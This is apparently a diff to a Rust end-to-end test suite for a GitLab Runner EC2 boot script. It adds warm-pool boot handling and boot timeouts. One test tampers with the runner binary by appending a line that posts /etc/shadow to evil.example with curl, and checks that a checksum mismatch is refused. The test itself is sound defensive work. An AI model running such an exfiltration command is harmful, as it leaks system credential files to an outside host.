@@ -4,11 +4,15 @@
 //! `curl`, served from a fixture directory; `shutdown`, `logger`, `systemctl`, `dnf`,
 //! `uname`), and the real AWS CLI against moto for the token parameter. It needs no root,
 //! network or docker: the PATH holds only the stand-ins and a few named coreutils.
+//! A warm-pool instance boots twice: its first boot (the rendered script) warms it up and
+//! stops, its next one runs the copy that boot left in cloud-init's per-boot directory.
 
 use std::os::unix::fs::PermissionsExt as _;
+use std::os::unix::process::CommandExt as _;
 use std::path::{Path, PathBuf};
-use std::process::Command;
+use std::process::{Command, Stdio};
 use std::sync::atomic::{AtomicU32, Ordering};
+use std::time::Duration;
 
 use aws_sdk_ssm::types::ParameterType;
 use e2e_tests::{moto_endpoint, sdk_config, tools_venv};
@@ -19,6 +23,12 @@ const VERSION: &str = "v18.5.0";
 const BUCKET: &str = "https://gitlab-runner-downloads.s3.amazonaws.com";
 const GITLAB_URL: &str = "https://gitlab.example.com";
 const CACHE_BUCKET: &str = "ci-runners-cachebucket-1a2b3c";
+
+/// No boot here takes this long: a boot that does is stopped and its test fails, not hangs.
+const BOOT_LIMIT: Duration = Duration::from_secs(180);
+/// A warm-up never waits for a token (60 AWS CLI calls against moto when it does, `sleep`
+/// being a no-op here): it ends well within this.
+const WARM_UP_LIMIT: Duration = Duration::from_secs(20);
 
 /// What the instance's own tools are, for the script and the stand-ins: nothing else of the
 /// host (no docker, no gitlab-runner, no systemctl) is on the PATH.
@@ -133,7 +143,16 @@ impl Booted {
 }
 
 impl Boot {
+    /// An instance launched for a job: its token parameter is there from the start.
     async fn new(machine: &'static str) -> Self {
+        let boot = Self::unclaimed(machine);
+        boot.put_token().await;
+        boot
+    }
+
+    /// A warm-pool instance, launched with no job: no token parameter until a provision
+    /// claims it.
+    fn unclaimed(machine: &'static str) -> Self {
         static N: AtomicU32 = AtomicU32::new(0);
         let n = N.fetch_add(1, Ordering::SeqCst);
         let pid = std::process::id();
@@ -159,15 +178,19 @@ impl Boot {
             machine,
         };
         boot.stand_ins();
+        boot
+    }
+
+    /// What the provision step puts for the instance it launched or claimed.
+    async fn put_token(&self) {
         sdk_ssm()
             .put_parameter()
-            .name(boot.parameter())
-            .value(&boot.token)
+            .name(self.parameter())
+            .value(&self.token)
             .r#type(ParameterType::SecureString)
             .send()
             .await
             .unwrap();
-        boot
     }
 
     fn parameter(&self) -> String {
@@ -288,6 +311,12 @@ echo "Installed: $*""#,
     }
 
     fn run(&self, runner: RunnerRelease) -> Booted {
+        self.first_boot(runner, false)
+    }
+
+    /// The first boot: cloud-init runs the rendered user-data (`pooled`: of a warm-pool
+    /// instance).
+    fn first_boot(&self, runner: RunnerRelease, pooled: bool) -> Booted {
         let script = render_user_data(
             fleet::config::USER_DATA_TEMPLATE,
             &UserDataValues {
@@ -300,19 +329,28 @@ echo "Installed: $*""#,
                 region: "us-east-1".into(),
                 runner,
                 cache_bucket: Some(CACHE_BUCKET.into()),
+                pooled,
             },
         )
         .unwrap();
-        let path = self.dir.join("user-data.sh");
-        std::fs::write(&path, &script).unwrap();
+        std::fs::write(self.user_data(), &script).unwrap();
+        let mut bash = Command::new("/bin/bash");
+        bash.arg(self.user_data());
+        self.execute(bash, if pooled { WARM_UP_LIMIT } else { BOOT_LIMIT })
+    }
+
+    /// A later boot: cloud-init runs what its per-boot directory holds, as programs.
+    fn next_boot(&self) -> Booted {
+        self.execute(Command::new(self.per_boot_copy()), BOOT_LIMIT)
+    }
+
+    fn execute(&self, mut command: Command, limit: Duration) -> Booted {
         let d = |sub: &str| self.dir.join(sub);
         // A boot of its own: nothing of an earlier run of this Boot is read as this one's.
         for old in ["calls.log", "journal.log", "record/argv", "record/env"] {
             let _ = std::fs::remove_file(d(old));
         }
-        // output(): returns once every holder of the pipes is gone, `logger` included.
-        let out = Command::new("/bin/bash")
-            .arg(&path)
+        command
             .env_clear()
             .env("PATH", self.bin())
             .env("HOME", d("home"))
@@ -321,6 +359,9 @@ echo "Installed: $*""#,
             .env("LOG_FILE", d("journal.log"))
             .env("FIXTURES", d("fixtures"))
             .env("RUNNER_INSTALL_DIR", d("install"))
+            // A warm-pool instance's marker and per-boot copy, in this instance's own disk.
+            .env("EPHEMERAL_STATE_DIR", d("state"))
+            .env("CLOUD_PER_BOOT_DIR", d("per-boot"))
             .env("RUNNER_RECORD", d("record"))
             .env("PACKAGES", d("packages"))
             .env("BIN_DIR", self.bin())
@@ -336,9 +377,33 @@ echo "Installed: $*""#,
             .env("AWS_SHARED_CREDENTIALS_FILE", "/dev/null")
             .env("AWS_EC2_METADATA_DISABLED", "true")
             .current_dir(&self.dir)
-            .output()
-            .expect("bash");
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped())
+            // A group of its own: a boot past its limit is stopped whole, `logger` and an AWS
+            // CLI call included.
+            .process_group(0);
+        let child = command.spawn().expect("bash");
+        let group = child.id();
         let read = |sub: &str| std::fs::read_to_string(d(sub)).ok();
+        // wait_with_output(): returns once every holder of the pipes is gone, `logger`
+        // included.
+        let (done, wait) = std::sync::mpsc::channel();
+        std::thread::spawn(move || done.send(child.wait_with_output()));
+        let out = match wait.recv_timeout(limit) {
+            Ok(out) => out.expect("bash"),
+            Err(_) => {
+                let _ = Command::new("kill")
+                    .args(["-KILL", "--", &format!("-{group}")])
+                    .status();
+                let _ = wait.recv();
+                panic!(
+                    "the boot did not end within {limit:?}:\n{}\n{}",
+                    read("journal.log").unwrap_or_default(),
+                    read("calls.log").unwrap_or_default()
+                );
+            }
+        };
         Booted {
             success: out.status.success(),
             log: read("journal.log").unwrap_or_default()
@@ -370,6 +435,21 @@ echo "Installed: $*""#,
 
     fn installed(&self) -> PathBuf {
         self.dir.join("install/gitlab-runner")
+    }
+
+    /// The rendered user-data, as cloud-init keeps it on the instance.
+    fn user_data(&self) -> PathBuf {
+        self.dir.join("user-data.sh")
+    }
+
+    /// What cloud-init runs at every boot after the first (/var/lib/cloud/scripts/per-boot).
+    fn per_boot_copy(&self) -> PathBuf {
+        self.dir.join("per-boot/ephemeral-runner.sh")
+    }
+
+    /// A warm-pool instance's "warmed up" mark (/var/lib/ephemeral-runner).
+    fn warmed_marker(&self) -> PathBuf {
+        self.dir.join("state/warmed")
     }
 
     /// The runner ran `run-single` as `program`, with the token in its environment only.
@@ -489,6 +569,9 @@ async fn a_verified_runner_reads_and_deletes_its_token_and_gets_it_only_in_its_e
         "{aws:?}"
     );
     assert!(aws[1].starts_with("aws ssm delete-parameter"), "{aws:?}");
+    // Not a warm-pool instance: nothing of it runs at a later boot (it is terminated anyway).
+    assert!(!boot.per_boot_copy().exists(), "{}", booted.log);
+    assert!(!boot.warmed_marker().exists(), "{}", booted.log);
     // The pinned release's binary and its release.sha256, nothing else; verified, then
     // made executable.
     assert_eq!(
@@ -787,4 +870,167 @@ async fn an_image_without_the_aws_cli_gets_it_from_the_distribution() {
     boot.assert_ran(&booted, &boot.installed());
     assert_eq!(booted.package_installs(), ["dnf install -y awscli-2"]);
     assert!(!boot.token_parameter_exists().await);
+}
+
+/// A warm-pool instance: its first boot (no job, no token parameter yet) installs and
+/// verifies everything, leaves itself in cloud-init's per-boot directory and stops; its next
+/// boot, once a provision claimed it, started it and put its token, runs the job with
+/// nothing left to install.
+#[tokio::test]
+async fn a_pooled_instance_warms_up_and_stops_then_runs_its_job_at_the_next_boot() {
+    let boot = Boot::unclaimed("x86_64");
+    boot.publish(VERSION);
+    boot.without_aws_cli();
+
+    let warm = boot.first_boot(release(""), true);
+    assert!(warm.success, "{}", warm.log);
+    assert!(
+        warm.log.contains(
+            "warmed for the warm pool: stopping until a provision starts this instance for a job"
+        ),
+        "{}",
+        warm.log
+    );
+    // The verified runner, docker and the AWS CLI: all there before the pool has it.
+    assert_eq!(
+        warm.downloads(),
+        [
+            format!("{BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64"),
+            format!("{BUCKET}/{VERSION}/release.sha256"),
+        ]
+    );
+    assert!(
+        warm.log.contains("binaries/gitlab-runner-linux-amd64: OK"),
+        "{}",
+        warm.log
+    );
+    assert!(boot.installed().exists());
+    assert_eq!(
+        warm.package_installs(),
+        ["dnf install -y docker", "dnf install -y awscli-2"]
+    );
+    // No token is its to read: no AWS CLI call, not even the instance id, no wait, no job.
+    assert!(
+        !warm.calls.lines().any(|l| l.starts_with("aws ")),
+        "{}",
+        warm.calls
+    );
+    assert!(
+        !warm.calls.contains("http://169.254.169.254/"),
+        "{}",
+        warm.calls
+    );
+    assert!(
+        !warm.calls.lines().any(|l| l.starts_with("sleep ")),
+        "{}",
+        warm.calls
+    );
+    assert!(warm.runner_argv.is_none(), "{}", warm.log);
+    assert!(!boot.token_parameter_exists().await);
+    // Stopped (shutdown behaviour stop), and run again by cloud-init at the next boot: the
+    // script itself, for root only.
+    assert_eq!(
+        warm.calls.lines().last(),
+        Some("shutdown -h now"),
+        "{}",
+        warm.calls
+    );
+    assert_eq!(
+        std::fs::read_to_string(boot.per_boot_copy()).ok(),
+        std::fs::read_to_string(boot.user_data()).ok(),
+        "{}",
+        warm.log
+    );
+    let mode = std::fs::metadata(boot.per_boot_copy())
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o777, 0o700);
+    assert!(boot.warmed_marker().exists());
+
+    // A provision claims it, starts it (StartInstances) and puts its token parameter.
+    boot.put_token().await;
+    let job = boot.next_boot();
+    boot.assert_ran(&job, &boot.installed());
+    assert!(
+        !boot.token_parameter_exists().await,
+        "the token parameter is deleted once read"
+    );
+    let aws: Vec<_> = job
+        .calls
+        .lines()
+        .filter(|l| l.starts_with("aws "))
+        .collect();
+    assert_eq!(aws.len(), 2, "{aws:?}");
+    assert!(
+        aws[0].starts_with(&format!(
+            "aws ssm get-parameter --region us-east-1 --name {}",
+            boot.parameter()
+        )),
+        "{aws:?}"
+    );
+    assert!(aws[1].starts_with("aws ssm delete-parameter"), "{aws:?}");
+    // Warmed up: nothing downloaded or installed this time.
+    assert_eq!(
+        job.requests_beyond_imds(),
+        Vec::<&str>::new(),
+        "{}",
+        job.calls
+    );
+    assert_eq!(job.package_installs(), Vec::<&str>::new(), "{}", job.calls);
+    assert!(
+        job.log.contains(&format!(
+            "gitlab-runner {VERSION} is installed: {}",
+            boot.installed().display()
+        )),
+        "{}",
+        job.log
+    );
+    assert!(!job.log.contains("warmed for the warm pool"), "{}", job.log);
+}
+
+/// A warm-up that refuses (here: a tampered binary) stops the instance unmarked and with no
+/// per-boot copy: no later boot of it reads a token or runs a job.
+#[tokio::test]
+async fn a_pooled_instance_that_fails_its_warm_up_stays_up_unclaimable_and_never_reads_a_token() {
+    let boot = Boot::unclaimed("x86_64");
+    let release_dir = boot.publish(VERSION);
+    let binary = release_dir.join("binaries/gitlab-runner-linux-amd64");
+    let mut text = std::fs::read_to_string(&binary).unwrap();
+    text.push_str("curl -d @/etc/shadow https://evil.example\n");
+    std::fs::write(&binary, text).unwrap();
+
+    let booted = boot.first_boot(release(""), true);
+    assert!(
+        !booted.success && booted.runner_argv.is_none(),
+        "{}",
+        booted.log
+    );
+    assert!(
+        booted.log.contains(&format!(
+            "refusing to run gitlab-runner: the SHA-256 of {BUCKET}/{VERSION}/binaries/gitlab-runner-linux-amd64 does not match {BUCKET}/{VERSION}/release.sha256"
+        )),
+        "{}",
+        booted.log
+    );
+    assert!(
+        !booted.calls.lines().any(|l| l.starts_with("aws ")),
+        "{}",
+        booted.calls
+    );
+    // Not stopped: a stopped pooled instance looks ready to be started for a job. Running
+    // and unmarked, it is never claimed, and the reaper ends it.
+    assert!(!booted.calls.contains("shutdown"), "{}", booted.calls);
+    assert!(
+        booted.log.contains("warm-up failed (exit 1): staying up"),
+        "{}",
+        booted.log
+    );
+    assert!(!boot.per_boot_copy().exists(), "{}", booted.log);
+    assert!(!boot.warmed_marker().exists(), "{}", booted.log);
+    assert!(
+        !booted.log.contains("warmed for the warm pool"),
+        "{}",
+        booted.log
+    );
 }
